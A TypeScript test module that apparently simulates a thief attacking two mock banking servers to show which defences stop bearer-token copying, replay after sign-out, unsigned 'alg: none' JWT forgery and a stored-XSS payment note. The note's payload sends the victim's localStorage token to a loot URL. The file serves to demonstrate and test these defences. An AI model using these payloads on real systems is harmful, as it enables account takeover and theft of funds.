import { ada, mallory, type Person } from '../people.ts'
import { fetchHere } from '../place.ts'
import { createDevice } from './device.ts'
import { forgedNote, loot, type Target, targets } from './forgeries.ts'

/** What the attacker does from a machine of their own, without anybody's browser. */
export type Thief = {
  /** A copied token is used while its owner is signed in. */
  copy(): Promise<void>
  /** A copied token is used after its owner signed out. */
  replay(): Promise<void>
  /** A token of the attacker's own making. */
  forgeToken(): Promise<void>
  /** Mallory's cent, with a note that wants to be script; what it finds goes to `lootUrl`. */
  plantNote(lootUrl: string): Promise<void>
  spend(target: Target, token: string): Promise<void>
}

const tokenPath = { ours: '/auth/sign-in', textbook: '/token' }
const signOutPath = { ours: '/auth/sign-out', textbook: '/sign-out' }

export function createThief(banks: Record<Target, string>): Thief {
  const post = (url: string, json: object, token?: string) =>
    fetchHere(url, {
      method: 'POST',
      redirect: 'manual',
      headers: {
        'content-type': 'application/json',
        ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      },
      body: JSON.stringify(json),
    })

  async function tokenOf({ email, password }: Person, target: Target): Promise<string> {
    const answer = await post(banks[target] + tokenPath[target], { email, password, carrier: 'token' })
    const body = (await answer.json()) as { access_token?: string; token?: string }
    return body.access_token ?? body.token ?? ''
  }

  const pay = (target: Target, token: string, order: object) =>
    post(`${banks[target]}/payments`, order, token)

  async function spend(target: Target, token: string): Promise<void> {
    await pay(target, token, { to: mallory.email, amount: loot, note: `${forgedNote} with your token` })
  }

  return {
    spend,
    async copy() {
      await spend('textbook', await tokenOf(ada, 'textbook'))
      // At our bank a page's tokens are bound to its key. The thief has the token, and only a key of her own.
      const device = createDevice(banks.ours)
      const token = await device.signIn(ada)
      await spend('ours', token)
      const own = createDevice(banks.ours)
      await own.pay(token, {
        to: mallory.email,
        amount: loot,
        note: `${forgedNote} with your token and my key`,
      })
      await device.signOut(token)
    },
    async replay() {
      for (const target of targets) {
        const token = await tokenOf(ada, target)
        await post(banks[target] + signOutPath[target], {}, token)
        await spend(target, token)
      }
    },
    async forgeToken() {
      for (const target of targets) {
        const genuine = await tokenOf(ada, target)
        await spend(target, unsigned(genuine))
        await post(banks[target] + signOutPath[target], {}, genuine)
      }
    },
    async plantNote(lootUrl) {
      const steal = `new Image().src='${lootUrl}&token='+localStorage.getItem('token')`
      const note = `<img src="x" onerror="${steal}">`
      for (const target of targets) {
        await pay(target, await tokenOf(mallory, target), { to: ada.email, amount: '0.01', note })
      }
    },
  }
}

/** What Ada's token says, every word of it, under a header that says it needs no signature. */
function unsigned(token: string): string {
  const head = Buffer.from(JSON.stringify({ alg: 'none', typ: 'at+jwt' })).toString('base64url')
  return `${head}.${token.split('.')[1] ?? ''}.`
}
